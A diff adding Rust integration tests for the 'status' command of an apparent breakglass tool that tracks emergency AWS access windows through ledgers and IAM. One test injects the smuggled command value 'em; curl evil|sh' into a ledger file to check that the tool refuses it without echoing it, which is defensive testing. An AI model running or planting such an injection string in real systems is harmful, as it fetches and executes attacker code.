@@ -1,0 +1,291 @@
+//! `status`: may a window be open, whose, until when; from the ledger, from IAM, on any machine, with its exit status.
+
+use std::process::{Command, Output};
+
+use rig::aws::{Account, Creds};
+use rig::night::Night;
+use rig::office::Office;
+use rig::pty::{End, Person, Signal};
+use serde_json::Value;
+
+use crate::PROGRAM;
+
+fn night(name: &str) -> Night {
+    Night::new(PROGRAM, name, &["alice", "bob"]).plugged(&["alice", "bob"])
+}
+
+fn open(office: &Office, window: &str) -> Person {
+    let mut person = office
+        .person(&["open", "prod.age", "--for", window, "--reason", "INC-1", "--again", "more", "--hold"]);
+    office.quorum(&mut person, 2);
+    person.expect("left");
+    person
+}
+
+/// On-call staff's own profile, beside no other.
+fn with_profile(office: &Office, who: &Creds, arguments: &[&str]) -> Command {
+    let _ = std::fs::create_dir(office.path(".aws"));
+    std::fs::write(office.path(".aws/credentials"), who.profile("oncall")).unwrap();
+    let mut command = office.command(arguments);
+    for name in ["AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE"] {
+        command.env_remove(name);
+    }
+    command
+}
+
+fn told(mut command: Command) -> (Option<i32>, Value, String) {
+    let Output { status, stdout, stderr } = command.output().unwrap();
+    let stdout = String::from_utf8(stdout).unwrap();
+    let json = serde_json::from_str(&stdout).unwrap_or(Value::Null);
+    (status.code(), json, format!("{stdout}{}", String::from_utf8_lossy(&stderr)))
+}
+
+#[test]
+fn before_any_window_there_is_none() {
+    let night = night("never");
+    let (code, _, said) = told(night.office.command(&["status"]));
+    assert!(code == Some(0) && said.contains("no window was ever opened"), "{said}");
+    let (code, json, _) = told(night.office.command(&["status", "prod.age", "--json"]));
+    assert_eq!(code, Some(0));
+    assert_eq!((&json["event"], &json["may_be_open"]), (&"status".into(), &false.into()), "{json}");
+    assert_eq!(json["targets"][0]["state"], "closed", "{json}");
+}
+
+#[test]
+fn the_ledger_knows_a_killed_run_and_its_end() {
+    let Night { office, account, .. } = night("killed-status");
+    let mut person = open(&office, "5m");
+    let (code, json, said) = told(office.command(&["status", "prod.age", "--json"]));
+    assert_eq!(code, Some(10), "{said}");
+    let target = &json["targets"][0];
+    assert_eq!((&target["state"], &target["own"]), (&"open".into(), &true.into()), "{json}");
+    let until: String = target["until"].as_str().expect("T1").to_owned();
+    let gate = account.rest().gate.expect("a gate").to_string();
+    assert!(gate.contains(&until), "{until} is the gate's own end: {gate}");
+    person.send_signal(Signal::SIGKILL);
+    person.wait();
+    let (code, _, said) = told(office.command(&["status"]));
+    assert_eq!(code, Some(10), "{said}");
+    for part in ["MAY BE OPEN until", "breakglass close", "aws iam attach-user-policy"] {
+        assert!(said.contains(part), "{part}: {said}");
+    }
+    let mut person = office.person(&["close", "prod.age"]);
+    office.quorum(&mut person, 2);
+    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
+    let (code, _, said) = told(office.command(&["status"]));
+    assert_eq!(code, Some(0), "nothing is open: {said}");
+    let (code, json, said) = told(office.command(&["status", "prod.age", "--json"]));
+    assert_eq!(code, Some(1), "but its credentials are to be rotated: {said}");
+    assert_eq!(json["may_be_open"], false);
+    assert!(json["upkeep"]["overdue"][0].as_str().unwrap().contains("rotate"), "{json}");
+    let (_, _, said) = told(office.command(&["status", "prod.age"]));
+    assert!(said.contains("SPENT by session") && said.contains("OVERDUE      rotate"), "{said}");
+}
+
+/// What this machine reads beside its own ledger.
+fn see(office: &Office, ledger: &std::path::Path) {
+    let config = office.path(".config/breakglass/config.json");
+    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
+    std::fs::write(config, serde_json::json!({"ledgers": [ledger]}).to_string()).unwrap();
+}
+
+#[test]
+fn another_machines_open_window_counts_and_a_ledger_that_is_missing_is_not_all_well() {
+    let Night { office, .. } = night("others-ledger");
+    let other = office.path("other");
+    let arguments = ["open", "prod.age", "--for", "5m", "--reason", "INC-1", "--hold"];
+    let mut command = office.command(&arguments);
+    command.env("BREAKGLASS_STATE", &other);
+    let mut person = Person::run(command);
+    office.quorum(&mut person, 2);
+    person.expect("left");
+    let (code, json, _) = told(office.command(&["status", "prod.age", "--json"]));
+    assert_eq!((code, &json["may_be_open"]), (Some(0), &false.into()), "this machine knows of none: {json}");
+    see(&office, &other.join("ledger.jsonl"));
+    for arguments in [&["status", "prod.age", "--json"][..], &["status", "--json"]] {
+        let (code, json, said) = told(office.command(arguments));
+        assert_eq!(code, Some(10), "{said}");
+        let target = &json["targets"][0];
+        assert_eq!((&target["state"], &target["own"]), (&"open".into(), &false.into()), "{json}");
+    }
+    person.type_raw(b"q");
+    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
+    let (code, json, _) = told(office.command(&["status", "prod.age", "--json"]));
+    assert_eq!(code, Some(1), "{json}");
+    assert!(json["upkeep"]["spent"].is_object(), "what another machine has opened is spent: {json}");
+    // And opening it here takes a reason.
+    let refused =
+        office.command(&["open", "prod.age", "--for", "5m", "--reason", "x", "--hold"]).output().unwrap();
+    assert_eq!(refused.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&refused.stderr).contains("are spent"));
+
+    see(&office, &office.path("gone.jsonl"));
+    let (code, json, said) = told(office.command(&["status", "prod.age", "--json"]));
+    assert!(code != Some(0) && said.contains("gone.jsonl"), "{json} {said}");
+    std::fs::write(office.path(".config/breakglass/config.json"), "garbage").unwrap();
+    let (code, _, said) = told(office.command(&["status", "prod.age"]));
+    assert!(code != Some(0) && said.contains("config.json"), "{said}");
+}
+
+#[test]
+fn a_ledger_says_nothing_that_a_shell_would_do() {
+    let Night { office, .. } = night("hostile-ledger");
+    let mut person = open(&office, "5m");
+    person.send_signal(Signal::SIGKILL);
+    person.wait();
+    let ledger = office.path("state/ledger.jsonl");
+    let text = std::fs::read_to_string(&ledger).unwrap();
+    std::fs::write(&ledger, text.replace("\"user\":\"emergency\"", "\"user\":\"em; curl evil|sh\"")).unwrap();
+    let (code, _, said) = told(office.command(&["status"]));
+    assert!(code == Some(6) && !said.contains("curl"), "{said}");
+}
+
+#[test]
+fn shares_given_in_vain_are_counted() {
+    let night = night("in-vain");
+    let vain = || {
+        let arguments = ["open", "prod.age", "--for", "5m", "--reason", "x", "--wait", "3s", "--hold"];
+        let mut person = night.office.person(&arguments);
+        night.office.answer(&mut person, "alice");
+        assert_eq!(person.wait(), End::Code(3), "{}", person.transcript());
+    };
+    night.office.pull("bob");
+    vain();
+    vain();
+    let (code, json, said) = told(night.office.command(&["status", "prod.age", "--json"]));
+    assert_eq!(code, Some(0), "{said}");
+    assert_eq!((&json["upkeep"]["released"], &json["upkeep"]["spent"]), (&2.into(), &Value::Null), "{json}");
+    let proofs = &json["upkeep"]["custodians"];
+    assert!(proofs[0]["last"].is_string() && proofs[1]["last"].is_null(), "{json}");
+    let (_, _, said) = told(night.office.command(&["status", "prod.age"]));
+    assert!(said.contains("came to nothing: 2") && said.contains("bob never"), "{said}");
+}
+
+#[test]
+fn a_second_opening_that_was_refused_does_not_hide_the_first() {
+    let Night { office, account, .. } = night("hidden");
+    let mut person = open(&office, "5m");
+    person.send_signal(Signal::SIGKILL);
+    person.wait();
+    let mut person =
+        office.person(&["open", "prod.age", "--for", "1m", "--reason", "INC-1", "--again", "more", "--hold"]);
+    office.quorum(&mut person, 2);
+    assert_eq!(person.wait(), End::Code(5), "{}", person.transcript());
+    let (code, json, said) = told(office.command(&["status", "--json"]));
+    assert_eq!(code, Some(10), "{said}");
+    assert_eq!(json["targets"][0]["state"], "open", "{json}");
+    let asked =
+        with_profile(&office, &account.closer, &["status", "prod.age", "--profile", "oncall", "--json"]);
+    let (code, json, said) = told(asked);
+    assert!(code == Some(10) && json["targets"][0]["own"] == true, "it is this machine's own: {said}");
+    let close = with_profile(&office, &account.closer, &["close", "prod.age", "--profile", "oncall"]);
+    assert_eq!(told(close).0, Some(0));
+    let (code, _, said) = told(office.command(&["status"]));
+    assert_eq!(code, Some(0), "{said}");
+}
+
+#[test]
+fn a_dead_laptops_window_is_found_in_iam() {
+    let Night { office, account, .. } = night("dead-laptop");
+    let mut person = open(&office, "5m");
+    person.send_signal(Signal::SIGKILL);
+    person.wait();
+    std::fs::remove_dir_all(office.path("state")).unwrap();
+    let (code, _, said) = told(office.command(&["status", "prod.age"]));
+    assert_eq!(code, Some(0), "this machine's ledger is gone: {said}");
+    assert!(said.contains("IAM was not asked"), "{said}");
+    let ask = |json: &[&str]| {
+        let arguments = [&["status", "prod.age", "--profile", "oncall"], json].concat();
+        told(with_profile(&office, &account.closer, &arguments))
+    };
+    let (code, json, said) = ask(&["--json"]);
+    assert_eq!(code, Some(10), "{said}");
+    let target = &json["targets"][0];
+    assert_eq!((&target["source"], &target["own"]), (&"iam".into(), &false.into()), "{json}");
+    assert!(target["session"].is_string() && target["until"].is_string(), "{json}");
+    account.put_to_rest();
+    let (code, _, said) = ask(&[]);
+    assert!(code == Some(0) && said.contains("closed (IAM says so)"), "{said}");
+}
+
+#[test]
+fn what_was_not_tidied_up_after_t1_is_said_and_is_not_open() {
+    let Night { office, account, .. } = night("untidy");
+    let now = account.now();
+    account.put_window("Sfeedfacefeedface", now - 600, now - 60);
+    let arguments = ["status", "prod.age", "--profile", "oncall"];
+    let (code, _, said) = told(with_profile(&office, &account.closer, &arguments));
+    assert!(code == Some(1) && said.contains("not at rest"), "{said}");
+    // A gate without an end is none of ours, and nobody knows until when it holds.
+    let anything = serde_json::json!({"Version": "2012-10-17", "Statement": [
+        {"Sid": "All", "Effect": "Allow", "Action": "s3:*", "Resource": "*"}]});
+    let gate = serde_json::json!({"UserName": account.user, "PolicyName": rig::aws::GATE,
+        "PolicyDocument": anything.to_string()});
+    account.root("put_user_policy", gate);
+    let (code, _, said) = told(with_profile(&office, &account.closer, &arguments));
+    assert!(code == Some(10) && said.contains("MAY BE OPEN"), "{said}");
+}
+
+#[test]
+fn a_profile_of_another_account_or_of_none_says_so() {
+    let Night { aws, office, .. } = night("other-profile");
+    let other: Account = aws.seed("other");
+    let arguments = ["status", "prod.age", "--profile", "oncall"];
+    let (code, _, said) = told(with_profile(&office, &other.closer, &arguments));
+    assert!(code == Some(5) && said.contains(&other.id), "{said}");
+    let arguments = ["status", "prod.age", "--profile", "nobody"];
+    let (code, _, said) = told(with_profile(&office, &other.closer, &arguments));
+    assert!(code == Some(2) && said.contains("profile nobody"), "{said}");
+}
+
+#[test]
+fn ledger_and_iam_stand_in_for_each_other() {
+    let Night { office, account, .. } = night("stand-in");
+    let mut person = open(&office, "5m");
+    person.send_signal(Signal::SIGKILL);
+    person.wait();
+    let ask = || with_profile(&office, &account.closer, &["status", "prod.age", "--profile", "oncall"]);
+    let mut alone = ask();
+    alone.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
+    let (code, _, said) = told(alone);
+    assert!(code == Some(10) && said.contains("was not reached") && said.contains("does not tell"), "{said}");
+    let ledger = office.path("state/ledger.jsonl");
+    let text = std::fs::read_to_string(&ledger).unwrap();
+    std::fs::write(&ledger, text.replacen("INC-1", "INC-2", 1)).unwrap();
+    let (code, _, said) = told(ask());
+    assert!(code == Some(10) && said.contains("does not chain") && said.contains("IAM says so"), "{said}");
+    account.put_to_rest();
+    let (code, _, said) = told(ask());
+    assert!(code == Some(6), "the ledger is damaged all the same: {said}");
+    let (code, _, said) = told(office.command(&["status"]));
+    assert!(code == Some(6) && !said.contains("ever opened"), "{said}");
+}
+
+#[test]
+fn what_standard_output_does_not_take_is_no_success() {
+    let night = night("full");
+    let mut command = night.office.command(&["status", "prod.age", "--json"]);
+    command.stdout(std::fs::File::options().write(true).open("/dev/full").unwrap());
+    assert_eq!(command.output().unwrap().status.code(), Some(1));
+}
+
+#[test]
+fn longer_than_planned_is_closed_and_opened_again_with_the_reason_on_record() {
+    let Night { office, account, .. } = night("again");
+    let mut person = open(&office, "5m");
+    person.type_raw(b"q");
+    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
+    let arguments =
+        ["open", "prod.age", "--for", "5m", "--reason", "INC-1", "--again", "not done yet", "--hold"];
+    let mut person = office.person(&arguments);
+    office.quorum(&mut person, 2);
+    person.expect("left");
+    person.type_raw(b"q");
+    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
+    let ledger = std::fs::read_to_string(office.path("state/ledger.jsonl")).unwrap();
+    assert!(ledger.contains("\"again\":\"not done yet\""), "{ledger}");
+    assert!(account.rest().at_rest());
+    // Never longer than the vault says, however often.
+    let long = ["open", "prod.age", "--for", "5h", "--reason", "x", "--again", "y", "--hold"];
+    assert_eq!(office.command(&long).output().unwrap().status.code(), Some(2));
+}
